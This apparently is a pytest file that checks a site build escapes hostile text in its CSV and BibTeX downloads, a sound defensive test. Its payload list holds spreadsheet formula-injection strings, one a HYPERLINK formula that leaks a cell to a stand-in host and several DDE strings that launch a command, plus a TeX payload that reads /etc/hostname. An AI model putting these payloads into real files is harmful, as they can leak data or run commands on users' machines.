"""The downloads are safe in the programs that open them: CSV in a spreadsheet, BibTeX in (bib)TeX.

Hostile text goes into a figure label, a timeline entry and a page title of a project copy; the
files are written as the build writes them (`outputs.output_files`) and read back as their
programs read them: the CSV with the csv module (a spreadsheet's cells), the BibTeX with pybtex
(the entry's fields) and its TeX decoded to text with pylatexenc.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from conftest import replace_once
from rnk_briefings.checks.site import check_site
from rnk_briefings.inputs.publication import settings
from rnk_briefings.publications import outputs

# Formula payloads, one per way a spreadsheet starts a formula (OWASP's list).
FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Every character TeX treats specially, and TeX's ^^ escape (^^5c is a backslash).
TEX_PAYLOAD = r"Kim \^^5c% $x$ #1 & a_b ~ {x} \input{/etc/hostname} ^^7b } { 露朝"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict[str, bytes]:
    from conftest import ROOT
    from rnk_briefings.inputs.site_model import copy_project

    project = copy_project(ROOT, tmp_path_factory.mktemp("downloads"))
    figures, timeline = project / "data/figures.yml", project / "data/timeline.yml"
    replace_once(
        figures,
        "label: {ja: 2024年10月に派遣された北朝鮮軍の精鋭部隊, en: North Korean elite troops deployed in October 2024}",
        f"label: {{ja: {json.dumps(FORMULAS[0])}, en: {json.dumps(FORMULAS[1])}}}",
    )
    replace_once(
        figures,
        "label: {ja: 2025年1月に追加派遣された北朝鮮軍部隊, en: North Korean troops sent as reinforcements in January 2025}",
        f"label: {{ja: {json.dumps(FORMULAS[4])}, en: {json.dumps(FORMULAS[5])}}}",
    )
    replace_once(timeline, "  ja: 中国と旧ソ連が友好条約を締結した。", f"  ja: {json.dumps(FORMULAS[2])}")
    replace_once(
        timeline, "  en: China and the Soviet Union signed a treaty of friendship.", f"  en: {json.dumps(FORMULAS[3])}"
    )
    page = project / "docs/en/briefings/china.md"
    title = next(line for line in page.read_text(encoding="utf-8").split("\n") if line.startswith("title: "))
    replace_once(page, title, f"title: {json.dumps(TEX_PAYLOAD)}")
    site, problems = check_site(project / "docs", project)
    # The payloads state different numbers in the two languages, which parity reports; nothing else may fail.
    problems = [p for p in problems if " states " not in p.message]
    assert not problems, "\n".join(map(str, problems))
    return outputs.output_files(site, settings(project, "https://example.org/rnk/"))


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("name", ["figures", "timeline"])
@pytest.mark.parametrize("prefix", ["", "en/"])
def test_no_csv_cell_starts_a_formula(hostile: dict[str, bytes], prefix: str, name: str) -> None:
    cells = [cell for row in _rows(hostile[f"{prefix}downloads/{name}.csv"]) for cell in row]
    assert len(cells) > 50
    assert [c for c in cells if c.startswith(FORMULA_START)] == []


def test_formula_payloads_are_kept_as_text(hostile: dict[str, bytes]) -> None:
    """Each payload is in a CSV as the text it was, behind one quote; the JSON holds it exactly."""
    everything = [
        cell for name, content in hostile.items() if name.endswith(".csv") for row in _rows(content) for cell in row
    ]
    json_text = "".join(content.decode("utf-8") for name, content in hostile.items() if name.endswith(".json"))
    for payload in FORMULAS[:4]:
        assert "'" + payload in everything, payload
        assert json.dumps(payload, ensure_ascii=False) in json_text, payload
    # A tab or CR at the start is kept too (the YAML loader keeps it in a quoted string).
    assert "'" + FORMULAS[4] in everything and "'" + FORMULAS[5] in everything


def test_numbers_stay_numbers(hostile: dict[str, bytes]) -> None:
    """Numeric cells written from numbers are digits a spreadsheet reads as numbers, with no quote."""
    rows = _rows(hostile["en/downloads/figures.csv"])
    header = rows[0]
    lows = [row[header.index("low")] for row in rows[1:] if row[header.index("low")]]
    assert lows and all(cell.lstrip("-").replace(".", "", 1).isdigit() for cell in lows)
    assert outputs.csv_cell(-5) == -5 and outputs.csv_cell(-2.5) == -2.5
    assert outputs.csv_cell("-5") == "'-5"  # text that looks like a number is text


def _tex_to_text(latex: str) -> str:
    """TeX as the text it typesets (pylatexenc, with LaTeX's text commands for the special characters)."""
    from pylatexenc.latex2text import LatexNodes2Text, MacroTextSpec, get_default_latex_context_db

    db = get_default_latex_context_db()
    meanings = {
        "textbackslash": "\\",
        "textbraceleft": "{",
        "textbraceright": "}",
        "textasciitilde": "~",
        "textasciicircum": "^",
        "$": "$",
    }
    db.add_context_category("latex-text", prepend=True, macros=[MacroTextSpec(n, t) for n, t in meanings.items()])
    return LatexNodes2Text(latex_context=db).latex_to_text(latex)


def test_bibtex_round_trips_as_text(hostile: dict[str, bytes]) -> None:
    from pybtex.database import parse_string

    content = hostile["en/downloads/cite-briefings-china.bib"].decode("utf-8")
    entries = parse_string(content, "bibtex").entries
    assert len(entries) == 1
    entry = next(iter(entries.values()))
    assert set(entry.fields) == {"title", "date", "version", "url", "langid", "organization"}
    assert _tex_to_text(entry.fields["title"]) == TEX_PAYLOAD
    assert "^^" not in entry.fields["title"] and "\\input" not in entry.fields["title"]
    # No character TeX treats specially is left bare: each is inside one of the escapes.
    bare = entry.fields["title"]
    for escape in [*outputs.TEX_TEXT.values()]:
        bare = bare.replace(escape, "")
    assert not set(bare) & set("\\{}%$#&_~^"), bare


def test_real_bibtex_parses(tmp_path: Path) -> None:
    """The real site's citations parse and decode to their page titles."""
    from pybtex.database import parse_string

    from conftest import ROOT

    site, problems = check_site(ROOT / "docs", ROOT)
    assert not problems
    files = outputs.output_files(site, settings(ROOT, "https://example.org/rnk/"))
    bibs = {name: content for name, content in files.items() if name.endswith(".bib")}
    assert len(bibs) >= 6
    titles = {str(c.page.meta["title"]) for lang in site.pages for c in site.pages[lang].values()}
    for content in bibs.values():
        entry = next(iter(parse_string(content.decode("utf-8"), "bibtex").entries.values()))
        assert _tex_to_text(entry.fields["title"]) in titles
